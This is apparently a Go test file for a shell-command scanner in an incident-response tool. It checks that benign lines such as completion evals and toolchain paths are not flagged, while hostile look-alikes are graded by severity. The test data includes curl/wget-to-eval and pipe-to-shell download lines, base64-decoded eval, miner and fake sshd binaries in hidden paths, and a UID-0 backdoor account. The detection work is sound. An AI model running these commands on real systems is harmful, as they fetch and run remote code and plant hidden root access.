package cmdscan

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/model"
)

// none: the indicator must not match.
const none = model.Severity(-1)

// exceptionTable pairs lines seen on real servers, which must not match,
// with hostile look-alikes, which must.
var exceptionTable = []struct {
	line string
	id   string
	sev  model.Severity // grade wanted for id, or none
}{
	// eval of a tool's own shell set-up.
	{`eval $(apt-config shell StateDir Dir::State/d)`, "obfuscation.eval", none},
	{`eval $(apt-config shell CACHE Dir::Cache)`, "obfuscation.eval", none},
	{`eval "$(dpkg-architecture -s)"`, "obfuscation.eval", none},
	{`eval $(locale)`, "obfuscation.eval", none},
	{`eval "$(locale -k LC_CTYPE)"`, "obfuscation.eval", none},
	{`eval $(resize)`, "obfuscation.eval", none},
	{`eval "$(/usr/bin/lesspipe)"`, "obfuscation.eval", none},
	{`[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"`, "obfuscation.eval", none},
	{`eval "$(ssh-agent -s)"`, "obfuscation.eval", none},
	{"eval `ssh-agent -s` > /dev/null", "obfuscation.eval", none},
	{`eval "$(register-python-argcomplete pipx)"`, "obfuscation.eval", none},
	{`eval "$(pip completion --bash)"`, "obfuscation.eval", none},
	{`eval "$(kubectl completion bash)"`, "obfuscation.eval", none},
	{`eval "$(helm completion bash)"`, "obfuscation.eval", none},
	{`eval "$(gh completion -s bash)"`, "obfuscation.eval", none},
	{`eval "$(rustup completions bash)"`, "obfuscation.eval", none},
	{`eval "$(uv generate-shell-completion bash)"`, "obfuscation.eval", none},
	{`eval "$(_PIPENV_COMPLETE=bash_source pipenv)"`, "obfuscation.eval", none},
	{`eval "$(dircolors -b ~/.dircolors)"`, "obfuscation.eval", none},
	{`test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"`, "obfuscation.eval", none},
	{`eval "$(command-not-found --no-failure-msg -- "$1")"`, "obfuscation.eval", none},
	{`eval "$(pyenv init - 2>/dev/null)"`, "obfuscation.eval", none},
	{`eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"`, "obfuscation.eval", none},
	{`eval "$(perl -I$HOME/perl5/lib/perl5 -Mlocal::lib=$HOME/perl5)"`, "obfuscation.eval", none},
	{`eval $(echo ZWNobyBoaQ== | base64 -d)`, "obfuscation.eval", model.Medium},
	{`eval $(echo ZWNobyBoaQ== | base64 -d)`, "obfuscation.base64-exec", model.High},
	{`eval "$(curl -s http://x)"`, "obfuscation.eval", model.Medium},
	{"eval `wget -qO- http://x/a`", "obfuscation.eval", model.Medium},
	{`eval "$(curl -s http://x/kubectl completion bash)"`, "obfuscation.eval", model.Medium},
	{`eval "$(kubectl completion bash | sh -c "$(cat)")"`, "obfuscation.eval", model.Medium},
	{`eval "$(/tmp/x/kubectl completion bash)"`, "obfuscation.eval", model.Medium},
	{`eval "$(python3 -c 'print("id")')"`, "obfuscation.eval", model.Medium},
	{`eval "$(dircolors -b)"; eval "$(curl -s http://x)"`, "obfuscation.eval", model.Medium},
	{`eval "$(dircolors -b`, "obfuscation.eval", model.Medium},
	{`eval "$(mytool)"`, "obfuscation.eval", model.Medium},

	// Programs in toolchains' own hidden directories.
	{`"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, "exec-hidden-path", none},
	{`/root/.acme.sh/acme.sh --cron --home /root/.acme.sh`, "exec-hidden-path", none},
	{`~/.local/bin/pipx run black`, "exec-hidden-path", none},
	{`/home/ops/.local/bin/syncthing -no-browser`, "exec-hidden-path", none},
	{`$HOME/.cargo/bin/cargo install ripgrep`, "exec-hidden-path", none},
	{`/root/.nvm/versions/node/v20.11.1/bin/node /srv/app/server.js`, "exec-hidden-path", none},
	{`/home/u/.pyenv/shims/python3 x.py`, "exec-hidden-path", none},
	{`/home/u/.pyenv/versions/3.12.1/bin/python -m http.server`, "exec-hidden-path", none},
	{`/home/u/.rbenv/shims/bundle exec puma`, "exec-hidden-path", none},
	{`/home/u/.sdkman/candidates/java/current/bin/java -jar app.jar`, "exec-hidden-path", none},
	{`/opt/app/.venv/bin/python manage.py clearsessions`, "exec-hidden-path", none},
	{`cd /srv/app && /srv/app/.venv/bin/gunicorn app:app`, "exec-hidden-path", none},
	{`/home/u/.virtualenvs/blog/bin/python manage.py migrate`, "exec-hidden-path", none},
	{`/home/u/.dotnet/tools/dotnet-counters ps`, "exec-hidden-path", none},
	{`/root/.pm2/modules/pm2-logrotate/node_modules/pm2-logrotate/app.js`, "exec-hidden-path", none},
	{`sudo /var/lib/jenkins/.local/bin/ansible-playbook site.yml`, "exec-hidden-path", none},
	{`/home/u/.vscode-server/bin/abc123/node /home/u/.vscode-server/bin/abc123/out/server-main.js`, "exec-hidden-path", none},
	{`/tmp/.x/miner`, "exec-hidden-path", model.Medium},
	{`/tmp/.x/miner`, "exec-writable-path", model.High},
	{`/var/tmp/.../x`, "exec-writable-path", model.High},
	{`~/.config/.cache/kworker`, "exec-hidden-path", model.Medium},
	{`/home/u/.config/.cache/kworker`, "exec-hidden-path", model.Medium},
	{`/usr/lib/.sshd -D`, "exec-hidden-path", model.Medium},
	{`~/.local/share/.x/run`, "exec-hidden-path", model.Medium},
	{`/home/u/.local/.cache/x`, "exec-hidden-path", model.Medium},
	{`/home/u/.local/bin/.x/run`, "exec-hidden-path", model.Medium},
	{`/home/u/.local/bin/../../.x/run`, "exec-hidden-path", model.Medium},
	{`/root/.cargo/registry/x`, "exec-hidden-path", model.Medium},
	{`/root/.acme.sh/update`, "exec-hidden-path", model.Medium},
	{`/usr/lib/.cargo/bin/x`, "exec-hidden-path", model.Medium},
	{`/home/.venv/bin/python`, "exec-hidden-path", model.Medium},
	{`"/root/.x"/y`, "exec-hidden-path", model.Medium},
	{`nohup $HOME/.sys/update >/dev/null 2>&1 &`, "exec-hidden-path", model.Medium},
	{`~/.local/bin/tool; /usr/lib/.x/run`, "exec-hidden-path", model.Medium},
	// Values that callers scan too (environment files, PATH).
	{`${HOME}/.local/bin:${PATH}`, "exec-hidden-path", none},
	{`$HOME/bin:$HOME/.local/bin:$PATH`, "exec-hidden-path", none},
	{`/home/u/.nvm/versions/node/v20.11.1/bin:/usr/bin`, "exec-hidden-path", none},
	{`$HOME/.nvm`, "exec-hidden-path", none},
	{`$HOME/.kshrc`, "exec-hidden-path", none},
	{`/tmp/.bin:$PATH`, "exec-hidden-path", model.Medium},
	{`/root/.sshd`, "exec-hidden-path", none}, // a dot file of a home: config as often as not
	{`/opt/app/.x/run`, "exec-hidden-path", model.Medium},
	{`fastcgi_split_path_info ^(.+?\.php)(/.*)$;`, "exec-hidden-path", none},
	{`find / -name x -exec /bin/ls {} \;`, "exec-hidden-path", none},
	{`exec /usr/sbin/.sshd "$@"`, "exec-hidden-path", model.Medium},
	{`/dev/shm/... -o x`, "exec-hidden-path", model.Medium},

	// Account tools.
	{`passwd`, "account-change", none},
	{`passwd -S alice`, "account-change", none},
	{`sudo passwd alice`, "account-change", model.Medium},
	{`passwd alice`, "account-change", model.Medium},
	{`sudo passwd`, "account-change", model.Medium}, // root's password
	{`passwd -d alice`, "account-change", model.Medium},
	{`passwd; passwd -u bob`, "account-change", model.Medium},
	{`passwd -l bob`, "account-change", model.Low},
	{`sudo passwd --lock bob`, "account-change", model.Low},
	{`usermod -L bob`, "account-change", model.Low},
	{`usermod -L -e 1 bob`, "account-change", model.Low},
	{`usermod --expiredate 1970-01-02 bob`, "account-change", model.Low},
	{`usermod -s /usr/sbin/nologin bob`, "account-change", model.Low},
	{`usermod -U bob`, "account-change", model.Medium},
	{`usermod -e "" bob`, "account-change", model.Medium},
	{`usermod -aG sudo bob`, "account-change", model.Medium},
	{`usermod -L bob; useradd -m x`, "account-change", model.Medium},
	{`echo 'root:x' | chpasswd`, "account-change", model.Medium},
	{`useradd -o -u 0 -g 0 -M x`, "account-change", model.Critical},
	{`passwd -l bob; useradd -o -u 0 x`, "account-change", model.Critical},

	// Downloads.
	{`wget https://x/file.tar.gz -O /tmp/file.tar.gz`, "download-to-writable", model.Medium},
	{`curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh`, "download-exec", model.High},
	{`curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh ./get-docker.sh --dry-run`, "download-exec", model.High},
	{`wget https://bootstrap.pypa.io/get-pip.py && python3 get-pip.py`, "download-exec", model.High},
	{`wget https://x/install.sh; bash -x install.sh`, "download-exec", model.High},
	{`wget https://bootstrap.pypa.io/get-pip.py && python3 -m pip install x`, "download-exec", none},
	{`curl -O https://x/a.tar.gz && sh -c 'tar xzf a.tar.gz'`, "download-exec", none},
	{`curl -O https://x/app.tar.gz && sh configure.sh`, "download-exec", none},
	{`bash <(curl -s https://raw.githubusercontent.com/x/y/main/install.sh)`, "download-exec", model.Critical},
	{`curl -fsSL https://get.docker.com | sh`, "download-exec", model.Critical},
}

func TestExceptions(t *testing.T) {
	for _, tc := range exceptionTable {
		got := none
		for _, m := range Scan(tc.line) {
			if m.ID == tc.id {
				got = m.Severity
			}
		}
		if got != tc.sev {
			t.Errorf("Scan(%q): %s graded %s, want %s (all: %+v)", tc.line, tc.id, sevName(got), sevName(tc.sev), Scan(tc.line))
		}
	}
}

func sevName(s model.Severity) string {
	if s == none {
		return "no match"
	}
	return s.String()
}

// Worst grades the brief asked for: a download to /tmp is worth a look,
// no more; the installer habit is not a piped download.
func TestDownloadGrades(t *testing.T) {
	for _, tc := range []struct {
		line string
		sev  model.Severity
		conf model.Confidence
	}{
		{`wget https://x/file.tar.gz -O /tmp/file.tar.gz`, model.Medium, model.ConfMedium},
		{`curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh`, model.High, model.ConfMedium},
		{`bash <(curl -s https://raw.githubusercontent.com/x/y/main/install.sh)`, model.Critical, model.ConfHigh},
	} {
		m, ok := Worst(Scan(tc.line))
		if !ok || m.Severity != tc.sev || m.Confidence != tc.conf {
			t.Errorf("Worst(Scan(%q)) = %+v, want %s/%s", tc.line, m, tc.sev, tc.conf)
		}
	}
}
